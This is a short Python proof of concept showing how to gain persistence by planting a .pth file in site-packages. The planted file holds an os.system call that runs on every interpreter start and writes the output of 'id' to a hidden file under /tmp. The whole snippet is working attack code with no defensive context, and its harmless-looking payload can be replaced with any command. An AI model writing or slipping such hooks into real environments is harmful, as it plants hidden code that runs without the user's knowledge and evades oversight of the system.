# a .pth line starting with "import" runs at every interpreter start
import os, site
sp = site.getsitepackages()[0]
with open(os.path.join(sp, "zzz_init.pth"), "w") as f:
    f.write("import os; os.system('id > /tmp/.seen')\n")
